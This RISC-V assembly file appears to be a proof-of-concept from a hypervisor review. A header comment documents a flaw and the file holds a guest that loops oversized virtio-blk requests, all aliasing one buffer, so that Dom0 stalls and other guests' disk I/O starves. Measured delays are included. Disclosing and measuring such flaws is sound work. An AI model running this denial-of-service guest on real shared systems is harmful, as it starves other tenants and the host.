/* Review finding: one virtio-blk request can be as long as the whole disk. The firmware
   accepts up to 128 data descriptors of any length inside guest RAM (they may all alias
   the same buffer) and offers no size_max; Dom0's backend serves a request to its end
   (diskCopy per 64 KiB) before it pops another or returns to its shell. So a 4 MiB guest
   keeps Dom0 busy for as long as reading its whole image takes, over and over, while the
   other guests' disk requests and Dom0's console wait. This guest reads 128 x 1 MiB (all
   into 0x8000_0000..0x8010_0000) from sector 0 of vda in a loop, printing '.' per request
   ('/' on IOERR, e.g. when the image is smaller than 128 MiB).
   Measured beside disk-probe.elf (another guest, 512-byte reads of its own disk):
   alone 0x228 ticks (55 us) worst case, 21888 requests/s; with this guest on a 128 MiB
   image 0x25c5ae (0.25 s), 5 requests/s; it grows linearly with the image. Config:
     name = 'hog'  kernel = 'disk-hog.elf'  memory = 4  disk = [ 'hog.img,vda,r' ] */
#include "virtio.inc"
  .equ BUF,    0x80000000
  .equ DESC,   0x80100000
  .equ AVAIL,  0x80101000
  .equ USED,   0x80102000
  .equ HDR,    0x80103000
  .equ STATUS, 0x80103100
  .equ SLOT,   0x10001000
  .equ SEGS,   128
  .section .text.init, "ax", @progbits
  .globl _start
_start:
  li s0, SLOT
  VIRTIO_NEGOTIATE
  VIRTIO_QUEUE0 256, DESC, AVAIL, USED
  /* desc[0]: the header (IN, sector 0); desc[1..SEGS]: 1 MiB each at BUF; then status. */
  li t0, DESC
  li t1, HDR
  sd t1, 0(t0)
  li t1, 16
  sw t1, 8(t0)
  li t1, 1
  sh t1, 12(t0)
  sh t1, 14(t0)
  li t2, 1
1:
  addi t0, t0, 16
  li t1, BUF
  sd t1, 0(t0)
  li t1, 0x100000
  sw t1, 8(t0)
  li t1, 3             /* NEXT | WRITE */
  sh t1, 12(t0)
  addi t3, t2, 1
  sh t3, 14(t0)
  addi t2, t2, 1
  li t3, SEGS + 1
  blt t2, t3, 1b
  addi t0, t0, 16
  li t1, STATUS
  sd t1, 0(t0)
  li t1, 1
  sw t1, 8(t0)
  li t1, 2
  sh t1, 12(t0)
  li t0, HDR
  sw zero, 0(t0)       /* VIRTIO_BLK_T_IN */
  sd zero, 8(t0)       /* sector 0 */
  li s1, 0             /* requests submitted */
loop:
  li t0, AVAIL
  slli t1, s1, 1
  andi t1, t1, 0x1FE
  add t1, t1, t0
  sh zero, 4(t1)       /* ring[s1 % 256] = head 0 */
  addi s1, s1, 1
  fence rw, w
  sh s1, 2(t0)
  sw zero, 0x50(s0)    /* notify */
  li t0, USED
2:
  lhu t1, 2(t0)
  slli t2, s1, 48
  srli t2, t2, 48
  bne t1, t2, 2b
  li a7, 1
  li t0, STATUS
  lbu a0, 0(t0)
  addi a0, a0, '.'     /* '.' OK, '/' IOERR */
  ecall
  j loop
